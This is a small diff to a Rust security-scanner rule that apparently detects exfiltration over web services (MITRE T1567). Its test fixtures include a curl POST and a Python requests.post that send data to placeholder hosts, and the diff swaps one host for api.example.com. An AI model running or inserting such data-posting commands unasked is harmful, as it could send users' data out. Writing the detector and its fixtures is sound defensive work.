@@ -13,7 +13,7 @@ pub(in crate::scan) static RULE: Rule = Rule {
     help: "Nothing, alone.",
     references: &["MITRE ATT&CK T1567 Exfiltration Over Web Service"],
     hits: &[
-        skill("```bash\ncurl -X POST https://h.invalid/x -d '{\"a\": 1}'\n```\n"),
+        skill("```bash\ncurl -X POST https://api.example.com/x -d '{\"a\": 1}'\n```\n"),
         file("a.py", "requests.post(\"https://h.invalid/x\", json=data)\n"),
     ],
     misses: &[
